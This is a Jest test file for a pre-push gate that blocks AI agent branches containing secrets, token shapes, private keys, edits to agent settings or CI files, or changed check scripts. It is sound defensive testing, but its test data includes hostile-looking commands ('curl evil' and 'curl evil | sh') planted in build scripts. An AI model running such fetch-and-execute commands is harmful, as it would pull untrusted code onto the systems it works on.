import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';

import {
  checkBeforePush,
  commitAll,
  describeFindings,
  makeBareRemote,
  type PushGatePolicy,
  WorktreeStore,
} from '../index';

jest.setTimeout(60_000);

// Built at run time so this file holds no token shape itself.
const GITHUB_TOKEN_SHAPE = ['ghp', '_', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('');
const DIRECTOR_SECRET = 'director-secret-value-1234';

let tmp: string;
let worktree: string;

beforeEach(async () => {
  tmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'nightshift-gate-')));
  const remote = await makeBareRemote(path.join(tmp, 'remote.git'), {
    'README.md': '# web\n',
    'package.json': JSON.stringify({ name: 'web', scripts: { test: 'jest' }, dependencies: { a: '1.0.0' } }, null, 2),
    'scripts/check.sh': '#!/bin/sh\nexit 0\n',
    'fixtures/old.txt': `token ${GITHUB_TOKEN_SHAPE}\n`,
  });
  const store = new WorktreeStore({ root: path.join(tmp, 'root') });
  worktree = (
    await store.createWorktree({
      repo: 'web',
      remoteUrl: remote,
      baseBranch: 'main',
      branch: 'agent/ENG-1',
      worktreeKey: 'ENG-1',
    })
  ).path;
});

afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));

const policy = (extra: Partial<PushGatePolicy> = {}): PushGatePolicy => ({
  secrets: [DIRECTOR_SECRET],
  allow: [],
  protectedPaths: { enforce: true, allow: [] },
  checks: [
    ['npm', 'test'],
    ['sh', 'scripts/check.sh'],
  ],
  ...extra,
});

async function change(files: Record<string, string | null>): Promise<void> {
  for (const [file, content] of Object.entries(files)) {
    const target = path.join(worktree, file);
    if (content === null) fs.rmSync(target);
    else {
      fs.mkdirSync(path.dirname(target), { recursive: true });
      fs.writeFileSync(target, content);
    }
  }
  await commitAll(worktree, 'change');
}

const gate = (p = policy()) => checkBeforePush(worktree, 'origin/main', p);

describe('checkBeforePush', () => {
  it('passes an ordinary change', async () => {
    await change({ 'src/a.ts': 'export const a = 1;\n', 'README.md': '# web\n\nMore.\n' });
    expect(await gate()).toEqual({ blocked: false });
  });

  it("finds a director secret's exact value and a token shape on their lines, and never quotes them", async () => {
    await change({
      'README.md': `# web\n\nkey: ${DIRECTOR_SECRET}\n`,
      'src/config.ts': `// config\nexport const token = '${GITHUB_TOKEN_SHAPE}';\n`,
    });
    const verdict = await gate();
    expect(verdict.blocked && verdict.reason).toBe('secret');
    const lines = verdict.blocked ? describeFindings(verdict.findings) : [];
    expect(lines).toEqual(
      expect.arrayContaining([
        'README.md:3: nightshift/director-secret',
        'src/config.ts:2: @secretlint/secretlint-rule-github',
      ]),
    );
    expect(JSON.stringify(verdict)).not.toContain(DIRECTOR_SECRET);
    expect(JSON.stringify(verdict)).not.toContain(GITHUB_TOKEN_SHAPE);
  });

  it('finds a private key', async () => {
    const key = execFileSync('openssl', ['genrsa', '2048'], { stdio: ['ignore', 'pipe', 'ignore'] }).toString();
    await change({ 'deploy/id_rsa': key });
    const verdict = await gate();
    expect(verdict.blocked && describeFindings(verdict.findings)).toEqual([
      'deploy/id_rsa:1: @secretlint/secretlint-rule-privatekey',
    ]);
  });

  it('lets a shape through in an allowed fixture, but never a director secret there', async () => {
    await change({ 'test/fixtures/token.txt': `${GITHUB_TOKEN_SHAPE}\n` });
    expect(await gate(policy({ allow: [{ paths: ['test/fixtures/**'], rules: ['github'] }] }))).toEqual({
      blocked: false,
    });
    expect((await gate(policy({ allow: [{ paths: ['test/fixtures/**'], rules: ['slack'] }] }))).blocked).toBe(true);
    await change({ 'test/fixtures/more.txt': `${DIRECTOR_SECRET}\n` });
    const verdict = await gate(policy({ allow: [{ paths: ['test/fixtures/**'], rules: [] }] }));
    expect(verdict.blocked && describeFindings(verdict.findings)).toEqual([
      'test/fixtures/more.txt:1: nightshift/director-secret',
    ]);
  });

  it('judges a renamed file by its whole content where it lands', async () => {
    fs.renameSync(path.join(worktree, 'fixtures/old.txt'), path.join(worktree, 'src-token.txt'));
    await commitAll(worktree, 'move');
    const verdict = await gate();
    expect(verdict.blocked && describeFindings(verdict.findings)).toEqual([
      'src-token.txt:1: @secretlint/secretlint-rule-github',
    ]);
  });

  it('flags agent settings, CI workflows and the scripts a check runs, by file', async () => {
    await change({ '.claude/settings.json': '{"permissions":{"allow":["Bash"]}}\n' });
    let verdict = await gate();
    expect(verdict.blocked && verdict.reason).toBe('protected_path');
    expect(verdict.blocked && describeFindings(verdict.findings)).toEqual([
      '.claude/settings.json: nightshift/protected-path',
    ]);
    await change({
      '.github/workflows/ci.yml': 'on: push\n',
      '.mcp.json': '{}\n',
      'scripts/check.sh': '#!/bin/sh\ncurl evil\n',
    });
    verdict = await gate();
    expect(verdict.blocked && describeFindings(verdict.findings).sort()).toEqual([
      '.claude/settings.json: nightshift/protected-path',
      '.github/workflows/ci.yml: nightshift/protected-path',
      '.mcp.json: nightshift/protected-path',
      'scripts/check.sh: nightshift/check-script',
    ]);
    expect(await gate(policy({ protectedPaths: { enforce: false, allow: [] } }))).toEqual({ blocked: false });
    expect(
      await gate(
        policy({ protectedPaths: { enforce: true, allow: ['.claude/**', '.github/**', '.mcp.json', 'scripts/**'] } }),
      ),
    ).toEqual({ blocked: false });
  });

  it('flags package.json only when its scripts change and a check runs them', async () => {
    const pkg = (scripts: Record<string, string>, deps: Record<string, string>) =>
      JSON.stringify({ name: 'web', scripts, dependencies: deps }, null, 2);
    await change({ 'package.json': pkg({ test: 'jest' }, { a: '2.0.0' }) });
    expect(await gate()).toEqual({ blocked: false });
    await change({ 'package.json': pkg({ test: 'curl evil | sh' }, { a: '2.0.0' }) });
    const verdict = await gate();
    expect(verdict.blocked && describeFindings(verdict.findings)).toEqual(['package.json: nightshift/check-script']);
    expect(await gate(policy({ checks: [['make', 'check']] }))).toEqual({ blocked: false });
  });
});
